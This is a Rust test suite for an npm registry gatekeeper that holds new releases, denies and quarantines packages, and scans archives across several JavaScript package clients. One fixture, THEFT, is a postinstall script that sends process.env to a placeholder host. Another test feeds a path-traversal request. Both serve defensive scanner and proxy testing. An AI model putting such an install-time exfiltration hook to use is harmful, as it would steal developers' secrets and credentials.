//! The npm door with its clients: client x (range, exact pin, lock) x (allowed, held, denied, gone), and the words a
//! person sees in each place, as far as each client shows any.

use std::time::{Duration, Instant};

use fanlight_testkit::clients::{JsClient, JsKind, JsRoom};
use fanlight_testkit::{Advisory, Node, NpmRelease, Output, Request, State, Upstream, get, wait_for};
use fanlight_tests::{published_an_hour_ago, records_of, refuse};

struct Scene {
    upstream: Upstream,
    node: Node,
    state: State,
    opens: String,
}

fn scene() -> Scene {
    let (published, opens) = published_an_hour_ago();
    let upstream = Upstream::start();
    for release in [
        NpmRelease::new("calm", "1.0.0").requires("@acme/part", "^3.0.0"),
        NpmRelease::new("@acme/part", "3.1.0"),
        NpmRelease::new("eager", "1.0.0"),
        NpmRelease::new("eager", "2.0.0").published(published),
        NpmRelease::new("badlib", "1.0.0"),
        NpmRelease::new("gone", "1.0.0"),
        NpmRelease::new("fading", "1.0.0"),
        NpmRelease::new("fading", "2.0.0"),
    ] {
        upstream.add_npm(&release);
    }
    let state = State::before(&upstream, "");
    state.policy("company.cedar", &refuse("badlib"));
    let node = state.start();
    Scene { upstream, node, state, opens }
}

impl Scene {
    /// A room with a lock of `spec` that was made before there was a Fanlight, led to the door afterwards.
    fn locked<'a>(&self, client: &'a JsClient, spec: &str) -> JsRoom<'a> {
        let room = client.room(&self.upstream.npm_url());
        room.add(spec).ok();
        room.clear();
        room.lead_to(&self.node.registry());
        if client.kind == JsKind::YarnClassic {
            // yarn 1 fetches from the very addresses of its lock.
            let lock = room.read("yarn.lock").expect("a lock");
            room.write("yarn.lock", &lock.replace(&self.upstream.npm_url(), &self.node.registry()));
        }
        room
    }
}

fn allowed(scene: &Scene, client: &JsClient) {
    let room = client.room(&scene.node.registry());
    room.add("calm@^1").ok();
    assert_eq!(room.installed("calm").as_deref(), Some("1.0.0"), "{}", client.name);
    room.clear();
    room.install_locked().ok();
    assert_eq!(room.installed("calm").as_deref(), Some("1.0.0"), "{}", client.name);
    let room = scene.locked(client, "calm@1.0.0");
    room.install_locked().ok();
    assert_eq!(room.installed("calm").as_deref(), Some("1.0.0"), "{}", client.name);
    if client.kind != JsKind::Pnpm {
        assert_eq!(room.installed("@acme/part").as_deref(), Some("3.1.0"), "{}", client.name);
    }
}

fn held(scene: &Scene, client: &JsClient) {
    // The older release, without a word about the newer one.
    let room = client.room(&scene.node.registry());
    let range = room.add("eager@>=1").ok();
    range.keeps_quiet_about("wait").keeps_quiet_about("deprecated").keeps_quiet_about("Held");
    assert_eq!(room.installed("eager").as_deref(), Some("1.0.0"), "{}", client.name);
    let room = client.room(&scene.node.registry());
    room.add("eager").ok();
    assert_eq!(room.installed("eager").as_deref(), Some("1.0.0"), "{}", client.name);

    let room = client.room(&scene.node.registry());
    let words = |said: Output| {
        said.fails()
            .says(&format!("Held until {}", scene.opens))
            .says("eager 2.0.0 was published")
            .says("new releases wait 7 days here")
            .says("Use 1.0.0 instead")
            .says("fanlight why pkg:npm/eager")
    };
    let pin = room.add("eager@2.0.0");
    let lock = scene.locked(client, "eager@2.0.0");
    let lock_said = lock.install_locked();
    match client.kind {
        JsKind::Npm | JsKind::Yarn => drop((words(pin), words(lock_said))),
        // It tells no more of an archive than the status.
        JsKind::Pnpm => drop((pin.fails().says("HTTP 403"), lock_said.fails().says("HTTP 403"))),
        JsKind::YarnClassic => {
            pin.fails().says("Couldn't find any versions for \"eager\" that matches \"2.0.0\"");
            lock_said.fails().says("eager-2.0.0.tgz: Request failed \"403 Forbidden\"");
        }
    }
    assert_eq!((room.installed("eager"), lock.installed("eager")), (None, None), "{}", client.name);
}

fn denied(scene: &Scene, client: &JsClient) {
    let said = |said: Output| match client.kind {
        JsKind::Npm | JsKind::Yarn => {
            said.fails().says("badlib is not used here: security withdrew it").says("use goodlib instead")
        }
        JsKind::Pnpm => said.fails().says("HTTP 403"),
        JsKind::YarnClassic => said.fails().says("No valid versions found for \"badlib\""),
    };
    let room = client.room(&scene.node.registry());
    said(room.add("badlib@^1"));
    said(room.add("badlib@1.0.0"));
    let room = scene.locked(client, "badlib@1.0.0");
    let locked = room.install_locked().fails();
    match client.kind {
        JsKind::Npm | JsKind::Yarn => locked.says("security withdrew it"),
        JsKind::Pnpm => locked.says("HTTP 403"),
        JsKind::YarnClassic => locked.says("403 Forbidden"),
    };
    assert_eq!(room.installed("badlib"), None, "{}", client.name);
}

/// Gone before this client came: a package taken away, and one release of a package that stays.
fn gone(scene: &Scene, client: &JsClient, locks: &[JsRoom<'_>; 2]) {
    let room = client.room(&scene.node.registry());
    let words = match client.kind {
        JsKind::YarnClassic => "Couldn't find package \"gone\"",
        // It says it all, in lines that end anywhere.
        JsKind::Pnpm => "404",
        JsKind::Npm | JsKind::Yarn => "The upstream has no project \"gone\"",
    };
    room.add("gone").fails().says(words);
    let tells = matches!(client.kind, JsKind::Npm | JsKind::Yarn);
    let missing = |lock: &JsRoom<'_>, words: &str| {
        let said = lock.install_locked().fails();
        // pnpm looks at the packument before, and says by itself that a lock's release is not there.
        if client.kind != JsKind::Pnpm {
            said.says(if tells { words } else { "404" });
        }
    };
    missing(&locks[0], "The upstream has no project \"gone\"");
    room.add("fading").ok();
    assert_eq!(room.installed("fading").as_deref(), Some("1.0.0"), "{}", client.name);
    missing(&locks[1], "does not list the file \"fading-2.0.0.tgz\"");
}

#[test]
fn every_client_gets_what_is_allowed_and_is_told_why_not() {
    let scene = scene();
    let clients = JsClient::all();
    // The node has seen what goes away, so that nothing of it may linger.
    for package in ["gone", "fading"] {
        get(&format!("{}{package}", scene.node.registry())).is(200);
    }
    let locks: Vec<_> =
        clients.iter().map(|client| ["gone", "fading@2.0.0"].map(|spec| scene.locked(client, spec))).collect();
    scene.upstream.remove_npm("gone", None);
    scene.upstream.remove_npm("fading", Some("2.0.0"));
    std::thread::sleep(Duration::from_millis(1200));
    std::thread::scope(|scope| {
        for (client, locks) in clients.iter().zip(&locks) {
            let scene = &scene;
            scope.spawn(move || {
                allowed(scene, client);
                held(scene, client);
                denied(scene, client);
                gone(scene, client, locks);
            });
        }
    });
    scene.node.is_healthy();
    scene.state.cli(&["ledger", "verify"]).ok();
}

#[test]
fn the_addresses_of_a_registry_answer() {
    let scene = scene();
    let ask = |path: &str| Request::get(&format!("{}{path}", scene.node.registry()));
    assert_eq!(ask("-/ping").send().is(200).json(), serde_json::json!({}));
    ask("-/whoami").send().is(401).says("fanlight use npm");
    assert_eq!(ask("-/package/eager/dist-tags").send().is(200).json(), serde_json::json!({"latest": "1.0.0"}));
    assert_eq!(ask("eager/latest").send().is(200).json()["version"], "1.0.0");
    let refused = ask("eager/2.0.0").send().is(403).says("new releases wait 7 days here");
    let records = records_of(&scene.state, "packages:fetch-file").into_iter();
    let record = records.rev().find(|record| record["request"].as_str() == refused.request_id()).expect("a record");
    let (decision, on) = (&record["decision"], &record["on"]["id"]);
    assert_eq!((&decision["outcome"], on), (&"hold".into(), &"pkg:npm/eager@2.0.0".into()), "{record}");
    assert_eq!(decision["policies"], serde_json::json!(["wait-and-see"]), "the policy that refused it is named");
    ask("eager/9.9.9").send().is(404).says("no version or tag");
    ask("a%20b").send().is(400).says("only letters, digits");
    // What the upstream does not have is not made up.
    ask("-/npm/v1/keys").send().is(404);
    // Attestations are passed on, of what may be had, and lead nowhere else on the upstream.
    ask("-/npm/v1/attestations/eager@1.0.0").send().is(404);
    ask("-/npm/v1/attestations/eager@2.0.0").send().is(403).says("new releases wait 7 days here");
    ask("-/npm/v1/attestations/eager@9.9.9").send().is(404).says("no version or tag");
    let out = "%2f..".repeat(5);
    ask(&format!("-/npm/v1/attestations/eager@1{out}%2fbadlib%2f-%2fbadlib-1.0.0.tgz")).send().is(404);
    let met = scene.upstream.seen().iter().filter(|seen| seen.path.contains("badlib")).count();
    assert_eq!(met, 0, "{:?}", scene.upstream.seen());
    for path in ["@acme/part", "@acme%2fpart", "@acme%2Fpart"] {
        let page = ask(path).send().is(200).json();
        let expected = format!("{}@acme/part/-/part-3.1.0.tgz", scene.node.registry());
        assert_eq!(page["versions"]["3.1.0"]["dist"]["tarball"], expected.as_str(), "{path}");
    }
    let short = ask("eager").header("Accept", "application/vnd.npm.install-v1+json; q=1.0, */*").send().is(200);
    assert_eq!(short.header("content-type"), Some("application/vnd.npm.install-v1+json"));
    let tag = short.header("etag").expect("a tag").to_owned();
    let again = ask("eager").header("Accept", "application/vnd.npm.install-v1+json").header("If-None-Match", &tag);
    again.send().is(304);
    // Under another name of the node the addresses on the page are other ones.
    let port = scene.node.address().rsplit_once(':').expect("a port").1;
    let named = get(&format!("http://localhost:{port}/npm/eager")).is(200).json();
    let tarball = named["versions"]["1.0.0"]["dist"]["tarball"].as_str().expect("an address").to_owned();
    assert_eq!(tarball, format!("http://localhost:{port}/npm/eager/-/eager-1.0.0.tgz"));
    get(&tarball).is(200);
    let records = records_of(&scene.state, "packages:fetch-file");
    assert_eq!(records.last().expect("a record")["on"]["id"], "pkg:npm/eager@1.0.0");
}

#[test]
fn an_archive_that_is_not_what_the_packument_says_is_never_given_whole() {
    let upstream = Upstream::start();
    upstream.add_npm(&NpmRelease::new("liar", "1.0.0").with_wrong_integrity().padded(300_000));
    let state = State::before(&upstream, "");
    let node = state.start();
    let room = JsClient::all().first().map(|client| client.room(&node.registry()));
    if let Some(room) = room {
        room.add("liar").fails();
        assert_eq!(room.installed("liar"), None);
    }
    let answer = get(&format!("{}liar/-/liar-1.0.0.tgz", node.registry()));
    assert!(answer.status != 200 || !answer.complete, "{answer:?}");
    assert!(state.blobs().is_empty(), "nothing of it is kept");
    let faults = records_of(&state, "packages:upstream-fault");
    assert!(faults.iter().any(|fault| fault["facts"]["fault"].as_str().is_some_and(|words| words.contains("SHA-512"))));
}

#[test]
fn a_large_packument_asked_for_by_twenty_at_once_is_filtered_once() {
    let upstream = Upstream::start();
    let filler = "x".repeat(8 * 1024);
    for n in 0..1000 {
        upstream.add_npm(&NpmRelease::new("large", &format!("1.{n}.0")).with("description", filler.as_str().into()));
    }
    let state = State::before(&upstream, "");
    let node = state.start();
    let address = format!("{}large", node.registry());
    let bodies: Vec<usize> = std::thread::scope(|scope| {
        let asked: Vec<_> = (0..20).map(|_| scope.spawn(|| get(&address).is(200).body.len())).collect();
        asked.into_iter().map(|asked| asked.join().expect("an answer")).collect()
    });
    assert!(bodies.iter().all(|length| *length == bodies[0] && *length > 8_000_000), "{bodies:?}");
    assert_eq!(upstream.count("/npm/large"), 1, "the upstream is asked once");
    let metrics = String::from_utf8(get(&format!("{}/metrics", node.url())).is(200).body).expect("text");
    let taken = metrics.lines().find_map(|line| line.strip_prefix("fanlight_projects_memory_bytes "));
    let taken: u64 = taken.and_then(|taken| taken.parse().ok()).expect("a number");
    // The page as read, and one page as written for all twenty.
    assert!(taken < 3 * bodies[0] as u64, "{taken} bytes for a page of {}", bodies[0]);
    assert_eq!(records_of(&state, "packages:read-index").len(), 20);
}

#[test]
fn why_and_who_tell_of_npm_packages() {
    let scene = scene();
    get(&format!("{}@acme/part/-/part-3.1.0.tgz", scene.node.registry())).is(200);
    scene.state.cli(&["why", "pkg:npm/eager"]).ok().says("2.0.0").says("held").says("1.0.0");
    scene.state.cli(&["why", "pkg:npm/%40acme/part"]).ok().says("3.1.0").says("allowed");
    scene.state.cli(&["who", "pkg:npm/%40acme/part@3.1.0"]).ok().says("unidentified");
    scene.state.cli(&["status"]).ok().says("npm").says(&scene.upstream.npm_url());
}

#[test]
fn clients_are_led_to_the_door_by_their_own_settings_and_back() {
    let scene = scene();
    for client in JsClient::all() {
        let room = client.room("http://127.0.0.1:9/");
        // Nothing in the project: what leads there is the person's own.
        for (file, text) in [
            (".npmrc", "fetch-retries=0\n"),
            (".yarnrc", ""),
            (".yarnrc.yml", "nodeLinker: node-modules\nnpmMinimalAgeGate: 0\nenableImmutableInstalls: false\n"),
        ] {
            room.write(file, text);
        }
        let (name, file) = match client.kind {
            JsKind::Yarn => ("yarn", ".yarnrc.yml"),
            JsKind::Pnpm => ("pnpm", ".npmrc"),
            JsKind::Npm | JsKind::YarnClassic => ("npm", ".npmrc"),
        };
        let cli = |args: &[&str]| scene.state.command(args).at_home(&room.home()).output();
        let settings = room.home().join(file);
        let before = "# mine\n";
        std::fs::write(&settings, before).expect("settings");
        cli(&["use", name, "--print"]).ok().says("/npm/").keeps_quiet_about("flk_1");
        assert_eq!(std::fs::read_to_string(&settings).expect("settings"), before);
        cli(&["use", name]).ok();
        room.add("calm").ok();
        let fetched = records_of(&scene.state, "packages:fetch-file");
        assert_eq!(fetched.last().expect("a record")["facts"]["strength"], "device-token", "{}", client.name);
        cli(&["use", name, "--undo"]).ok();
        assert_eq!(std::fs::read_to_string(&settings).expect("settings"), before, "{}", client.name);
    }
}

/// Reads as theft and does nothing: no variable of that name is ever set.
const THEFT: &str = "if (process.env.NEVER_SET_ANYWHERE) {\n  fetch('http://c.example.invalid', {method: 'POST', body: JSON.stringify(process.env)});\n}\n";

#[test]
fn every_client_is_refused_what_the_scan_found_and_what_an_advisory_calls_malicious() {
    let upstream = Upstream::start();
    for release in [
        NpmRelease::new("harmful", "1.0.0")
            .with("scripts", serde_json::json!({"postinstall": "node after.js"}))
            .with_file("after.js", THEFT),
        NpmRelease::new("harmful", "0.9.0").days_old(60),
        NpmRelease::new("evil", "1.0.0"),
    ] {
        upstream.add_npm(&release);
    }
    let state = State::before(&upstream, "");
    state.advise(&Advisory::npm("MAL-2026-77", "evil").summary("it reads keys"));
    let settings = format!("[advisories]\nsources = [{:?}]\n", state.feed().display().to_string());
    state.configure(&State::config(&upstream, "7d", &settings));
    let node = state.start();
    for client in JsClient::all() {
        let room = client.room(&node.registry());
        let (found, evil) = (room.add("harmful@1.0.0").fails(), room.add("evil").fails());
        match client.kind {
            JsKind::Npm => {
                found.says("the scan of harmful-1.0.0.tgz found: collects private data");
                evil.says("evil 1.0.0 is malicious (MAL-2026-77: it reads keys)");
            }
            JsKind::Yarn => {
                found.says("403").says("the scan of harmful-1.0.0.tgz found");
                evil.says("403").says("evil 1.0.0 is malicious");
            }
            // These show no reason; docs/packages-npm.md says where it stands.
            JsKind::Pnpm => drop((found.says("403"), evil.says("403"))),
            JsKind::YarnClassic => {}
        }
        assert_eq!((room.installed("harmful"), room.installed("evil")), (None, None), "{}", client.name);
        // Who asks for a range from now on gets what was before, without a word.
        let room = client.room(&node.registry());
        room.add("harmful@>=0").ok();
        assert_eq!(room.installed("harmful").as_deref(), Some("0.9.0"), "{}", client.name);
    }
    state.cli(&["why", "pkg:npm/harmful"]).says("collects private data and sends it away (package/after.js:2)");
}

#[test]
fn a_quarantine_stops_a_release_in_every_client_at_once_and_lists_who_has_it() {
    let scene = scene();
    let clients = JsClient::all();
    let rooms: Vec<_> = clients.iter().map(|client| (client, client.room(&scene.node.registry()))).collect();
    for (_, room) in &rooms {
        room.add("fading@2.0.0").ok();
    }
    wait_for("the installs to be known", Duration::from_secs(10), || {
        (scene.state.cli(&["who", "pkg:npm/fading@2.0.0"]).code == Some(0)).then_some(())
    });
    let done = scene.state.cli(&["quarantine", "pkg:npm/fading@2.0.0", "--because", "it steals tokens"]).ok();
    let began = Instant::now();
    get(&format!("{}fading/-/fading-2.0.0.tgz", scene.node.registry())).is(403).says("it steals tokens");
    assert!(began.elapsed() < Duration::from_secs(1), "{:?}", began.elapsed());
    done.says("unidentified").says("fading-2.0.0.tgz");
    for (client, room) in &rooms {
        room.clear();
        let said = room.install_locked().fails();
        match client.kind {
            JsKind::Npm | JsKind::Yarn => said.says("quarantined here since").says("it steals tokens"),
            JsKind::Pnpm | JsKind::YarnClassic => said.says("403"),
        };
        assert_eq!(room.installed("fading"), None, "{}", client.name);
        let fresh = client.room(&scene.node.registry());
        fresh.add("fading@>=1").ok();
        assert_eq!(fresh.installed("fading").as_deref(), Some("1.0.0"), "{}", client.name);
    }
}
